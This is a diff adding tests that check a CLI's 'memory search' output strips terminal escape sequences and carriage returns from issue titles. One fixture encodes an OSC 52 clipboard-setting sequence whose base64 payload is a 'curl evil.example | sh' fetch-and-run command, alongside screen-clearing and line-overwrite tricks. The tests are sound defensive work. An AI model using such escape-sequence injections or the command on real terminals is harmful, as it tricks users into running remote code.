@@ -333,6 +333,50 @@ describe("talos memory search", () => {
   });
 });
 
+// Anyone can open an issue on a public repository; its title is remembered as it was written and
+// `talos memory search` prints the first line of it into the maintainer's terminal.
+describe("talos memory prints remembered text into the terminal", () => {
+  const OSC52 = "\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007"; // sets the clipboard
+  const CSI = "\u001b[2J"; // clears the screen
+  const C1_CSI = "\u009b31m"; // 8-bit CSI
+  // Nothing a terminal acts on: ESC, BEL, C1 controls, CR (tab and line feed are the table's).
+  // eslint-disable-next-line no-control-regex -- matching them is the point
+  const CONTROLS = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;
+
+  it("search prints no escape sequences or carriage returns from an issue title", async () => {
+    const dataDir = makeDataDir();
+    const memories = createTestRegistry(join(dataDir, "memory"));
+    const store = await memories.open({ installation: 7, ...WIDGETS });
+    await store.add(
+      issueMemory(1, `Crash exporting invoices ${OSC52}${CSI}${C1_CSI}\rall good here\n\nbody`),
+    );
+    await memories.closeAll();
+
+    const args = ["memory", "search", "crash exporting invoices", "--data-dir", dataDir];
+    const { code, out, err } = await talos(args);
+    expect(err).toBe("");
+    expect(code).toBe(0);
+    expect(out).not.toMatch(CONTROLS);
+    // One row, the carriage return a space: nothing hidden, nothing written over.
+    const lines = out.trim().split("\n");
+    expect(lines).toHaveLength(2);
+    expect(lines[1]).toMatch(/ issue-1 .* Crash exporting invoices \]52;c;\S+ all good h$/);
+  });
+
+  it("search cuts the text to 80 characters once clean", async () => {
+    const dataDir = makeDataDir();
+    const memories = createTestRegistry(join(dataDir, "memory"));
+    const store = await memories.open({ installation: 7, ...WIDGETS });
+    // Sixty controls and then the words: cut first, 20 characters of the words were left.
+    await store.add(issueMemory(1, `${"\u0007".repeat(60)}${"crash ".repeat(20)}`));
+    await memories.closeAll();
+
+    const { code, out } = await talos(["memory", "search", "crash", "--data-dir", dataDir]);
+    expect(code).toBe(0);
+    expect(out.trim().split("\n")[1]).toMatch(/ {2}(crash ){13}cr$/);
+  });
+});
+
 describe("talos memory export", () => {
   it("prints every record as a JSON line with its installation, without vectors", async () => {
     const dataDir = await seed();
